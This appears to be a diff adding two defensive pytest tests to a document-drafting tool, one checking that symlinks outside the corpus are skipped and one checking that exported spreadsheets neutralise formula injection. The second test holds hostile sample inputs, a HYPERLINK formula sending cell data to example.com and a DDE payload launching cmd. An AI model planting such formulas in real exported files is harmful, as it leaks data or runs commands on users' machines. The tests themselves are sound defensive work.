@@ -289,3 +289,43 @@ def test_a_word_97_doc_is_converted_and_read(tmp_path):
     doc = tmp_path / "doc" / "总结.doc"
     assert doc.read_bytes().startswith(OLE2)
     assert "全年新增高新技术企业16家。" in extract_text(doc, doc.read_bytes())
+
+
+# ---- 6. nothing outside the corpus is read or written ------------------------------------------------
+
+def test_links_out_of_the_corpus_are_skipped_and_no_sidecar_is_written_beside_their_target(tmp_path):
+    from drafter.ingest.pipeline import ingest
+    from drafter.session import shelf
+
+    secret = tmp_path / "outside" / "机密.txt"
+    secret.parent.mkdir()
+    secret.write_text("示例县科学技术局2023年工作总结\n一、主要工作\n口令是 hunter2，全年新增高新技术企业16家。", "utf-8")
+    corpus = tmp_path / "corpus"
+    corpus.mkdir()
+    (corpus / "总结.txt").symlink_to(secret)
+    (corpus / "文件夹").symlink_to(secret.parent, target_is_directory=True)
+    (corpus / "真的.txt").write_text("样例市科学技术局2023年工作总结\n一、主要工作\n全年新增高新技术企业9家。", "utf-8")
+    settings = Settings(corpus_dir=corpus, index_dir=tmp_path / "index", embedding="hash", workspace=tmp_path / "ws")
+    report = ingest(settings)
+    assert [Path(p).name for p in report.added] == ["真的.txt"]
+    assert "总结.txt" in {Path(p).name for p, why in report.skipped if "语料库文件夹以外" in why}
+    assert not shelf.search(settings, "口令", mode="lexical") or all("hunter2" not in h["text"] for h in shelf.search(settings, "口令", mode="lexical"))
+    with pytest.raises(DrafterError, match="不在语料库文件夹"):
+        shelf.set_meta(settings, str(secret), "示例县科学技术局", 2023, "annual")
+    assert sorted(p.name for p in secret.parent.iterdir()) == ["机密.txt"]
+
+
+# ---- 11. no live formula in an exported table ---------------------------------------------------------
+
+def test_indicator_names_that_look_like_formulas_are_exported_as_text(sampled, tmp_path):
+    from openpyxl import load_workbook
+
+    session = Desk(sampled, offline_model=True).create(ORG, 2024)
+    names = ['=HYPERLINK("http://example.com/?d="&A2,"点我")', "+cmd|' /C calc'!A0", "@SUM(A1:A2)", "-2+3"]
+    session.set_facts([{"indicator": n, "value": 1, "unit": "项"} for n in names])
+    book = load_workbook(session.export(tmp_path / "表.xlsx"))
+    cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=+@-"]
+    assert {c.value for c in cells} >= set(names) and all(c.data_type == "s" for c in cells)
+    csv_text = session.export(tmp_path / "表.csv").read_text("utf-8-sig")
+    assert all(f"'{n}" in csv_text or f"\"'{n}" in csv_text or f"'{n.replace(chr(34), chr(34) * 2)}" in csv_text for n in names)
+    assert not any(line.startswith(("=", "+", "@", "-")) for line in csv_text.splitlines())
